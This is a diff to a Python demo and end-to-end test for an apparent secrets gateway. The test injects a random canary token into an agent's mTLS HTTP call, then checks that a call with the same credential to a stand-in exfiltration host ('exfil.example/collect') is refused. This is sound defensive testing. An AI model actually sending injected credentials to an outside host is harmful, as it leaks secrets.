@@ -3,17 +3,22 @@
 Each step checks what it shows and raises ``DemoFailure`` naming the step when
 the promise does not hold, so the demo doubles as an end-to-end test. What an
 agent saw is printed as the gateway returned it; what existed meanwhile is read
-by the operator from PostgreSQL and the audit log. No credential is printed:
-the agent never had one.
+by the operator from PostgreSQL, the demo's HTTPS destination and the audit
+log. No credential is printed: the agent never had one. The token injected into
+the HTTP call is a random canary made for this run; the operator stores it as
+``secrets-writer`` and the destination is told only its SHA-256.
 """
 
 from __future__ import annotations
 
 import base64
+import contextlib
 import datetime as dt
 import json
+import secrets
+import string
 import time
-from collections.abc import Callable
+from collections.abc import Callable, Iterator
 from dataclasses import dataclass, field
 from typing import Any
 
@@ -25,10 +30,19 @@ from clawql_secrets.audit.checkpoint import VerifierKey
 from clawql_secrets.audit.query import QueryFilter, query
 from clawql_secrets.audit.store import LocalWormStore
 from clawql_secrets.cluster.layout import StackSettings
+from clawql_secrets.demo import target
 from clawql_secrets.errors import ClawQLError
 from clawql_secrets.gateway import session_issuer
+from clawql_secrets.gateway.localstack import AGENT_URI_SAN, HTTP_ROLE
+from clawql_secrets.issuer import LocalIssuer
+from clawql_secrets.provision import agent_secrets
 
 Say = Callable[[str, str, Any], None]
+# The HTTP part: examples/clawql.yaml's role integrator and its secret.
+HTTP_TENANT, HTTP_AGENT, HTTP_SECRET = "acme", "bot-i", "github_token"
+# Where an agent might try to send the injected token instead (reserved TLD: the
+# gateway refuses it before any lookup or connection).
+EXFIL_URL = "https://exfil.example/collect"
 
 
 class DemoFailure(ClawQLError):
@@ -54,6 +68,19 @@ class Demo:
         if not ok:
             raise DemoFailure(f"demo step failed: {name}")
 
+    @contextlib.contextmanager
+    def guard(self, name: str) -> Iterator[None]:
+        """An error inside the block fails step ``name`` (never a raw traceback)."""
+        try:
+            yield
+        except DemoFailure:
+            raise
+        except ClawQLError as exc:
+            self.step(name, False, {"error": exc.diagnostics()})
+        except (httpx.HTTPError, ValueError, KeyError, TypeError) as exc:
+            # Type only: a message might quote a response.
+            self.step(name, False, {"error": type(exc).__name__})
+
 
 def _sid(jwt: str) -> str:
     payload = jwt.split(".")[1]
@@ -78,7 +105,130 @@ def _wait_gone(role: str, timeout: float = 2.0) -> float:
     return -1.0
 
 
-def run(settings: StackSettings, say: Say) -> list[Step]:
+def _canary() -> str:
+    """A token-shaped random value (GitHub-like), made at run time only."""
+    alphabet = string.ascii_letters + string.digits
+    return "ghp_" + "".join(secrets.choice(alphabet) for _ in range(36))
+
+
+def _error_code(doc: Any) -> Any:
+    return ((doc or {}).get("error") or {}).get("code") if isinstance(doc, dict) else None
+
+
+def _http_steps(demo: Demo, http: httpx.Client, issuer: LocalIssuer, canary: str) -> None:
+    """An HTTP call with an injected credential and a 5-minute mTLS cert, and its end."""
+    s = demo.settings
+    ref = agent_secrets.AgentSecretRef(HTTP_TENANT, HTTP_AGENT, HTTP_SECRET)
+    who = f"{HTTP_TENANT}/{HTTP_AGENT}"
+    san = AGENT_URI_SAN.format(tenant=HTTP_TENANT, agent=HTTP_AGENT)
+    leaks = (canary, base64.b64encode(canary.encode()).decode())
+
+    def clean(text: str) -> bool:
+        return not any(v in text for v in leaks)
+
+    def shown(text: str) -> Any:
+        return json.loads(text) if clean(text) else "[withheld: it held the injected value]"
+
+    # a. The operator stores the agent's token; nobody can read it back but the agent.
+    name = f"the operator stores {ref.describe()} as secrets-writer (value never shown)"
+    with demo.guard(name):
+        version = agent_secrets.put_on_stack(s, ref, canary)
+    demo.step(name, version >= 1, {"path": ref.path, "version": version})
+
+    jwt = session_issuer.issue(
+        issuer, tenant=HTTP_TENANT, agent=HTTP_AGENT, role=HTTP_ROLE, ttl=600
+    )
+    inject = {"secret": HTTP_SECRET, "header": "Authorization", "format": "Bearer {value}"}
+
+    def args(url: str) -> dict[str, Any]:
+        return {"method": "GET", "url": url, "client_cert": True, "inject": inject}
+
+    def call(url: str) -> tuple[int, str]:
+        resp = http.post(
+            "/v1/tools/http.request", headers={"Authorization": f"Bearer {jwt}"}, json=args(url)
+        )
+        return resp.status_code, resp.text
+
+    # b. The call: a cert issued for this agent, the token put in a header, the
+    #    agent handed the destination's answer only.
+    name = f"{who} calls an mTLS service through the gateway: the agent saw only the result"
+    with demo.guard(name), target.running(s, target.token_digest(canary)) as dest:
+        with demo.guard(name):
+            status, text = call(f"{dest.url}/hello")
+            result = json.loads(text).get("result") or {}
+            body = result.get("body")
+            utf8 = result.get("body_encoding") == "utf-8" and isinstance(body, str)
+            answer = json.loads(body) if utf8 and body else None
+        demo.step(
+            name,
+            status == 200
+            and result.get("status") == 200
+            and answer == {"hello": san, "authorized": True}
+            and clean(text),
+            {"agent asked": args(f"{dest.url}/hello"), "agent saw": shown(text)},
+        )
+
+        # c. What existed meanwhile, from the destination's side.
+        name = (
+            f"meanwhile the destination saw a client cert for {san} "
+            "valid for 300 s and the right token"
+        )
+        seen = dest.seen
+        first = seen[0] if seen else None
+        life = (first.cert.not_after - first.at).total_seconds() if first else -1.0
+        demo.step(
+            name,
+            first is not None
+            and len(seen) == 1
+            and first.cert.uri_sans == (san,)
+            and first.authorized
+            # Issued for 5 minutes at the call; OpenBao backdates not_before by 30 s.
+            and 290 <= life <= 300
+            and first.cert.lifetime_seconds <= 330,
+            {"destination saw": first.to_json() if first else None},
+        )
+
+        # d. The same credentials toward anywhere else: refused before any connection.
+        name = "the same call to a destination off the allow-list is refused (nothing sent)"
+        with demo.guard(name):
+            status, text = call(EXFIL_URL)
+            code = _error_code(json.loads(text))
+        demo.step(
+            name,
+            status == 403
+            and code == "destination_not_allowed"
+            and clean(text)
+            and len(dest.seen) == 1,
+            {"agent asked": args(EXFIL_URL), "agent saw": shown(text)},
+        )
+
+        # e. Session end: the JWT is worthless, the destination hears nothing more.
+        name = f"DELETE the {who} session: its next call is refused"
+        with demo.guard(name):
+            ended = http.delete(
+                f"/v1/sessions/{_sid(jwt)}", headers={"Authorization": f"Bearer {jwt}"}
+            )
+            ended_doc = ended.json()
+            status, text = call(f"{dest.url}/hello")
+            code = _error_code(json.loads(text))
+        demo.step(
+            name,
+            ended.status_code == 200
+            and status == 401
+            and code in {"session_ended", "session_revoked"}
+            and clean(text)
+            and len(dest.seen) == 1,
+            {
+                "ended": ended_doc,
+                "agent saw": shown(text),
+                "requests the destination got": len(dest.seen),
+            },
+        )
+
+
+def run(settings: StackSettings, say: Say, *, canary: str | None = None) -> list[Step]:
+    """Every step in order; ``canary`` is the token injected over HTTP (random by
+    default: tests pass their own to search every output for it)."""
     demo = Demo(settings, say)
     started = dt.datetime.now(dt.UTC) - dt.timedelta(seconds=2)
     issuer = session_issuer.load_issuer(settings.data_dir)
@@ -180,7 +330,10 @@ def run(settings: StackSettings, say: Say) -> list[Step]:
             {"pg_roles dropped": g_roles},
         )
 
-    # 6. The audit log: verify everything, then ask "did acme/bot-a touch its creds?"
+        # 6. HTTP: an injected credential and a 5-minute mTLS client cert.
+        _http_steps(demo, http, issuer, canary or _canary())
+
+    # 7. The audit log: verify everything, then ask "did acme/bot-a touch its creds?"
     verifier_file = settings.audit_dir / "verifier.txt"
     store = LocalWormStore(settings.audit_dir / "store")
     key = VerifierKey.parse(verifier_file.read_text().strip())
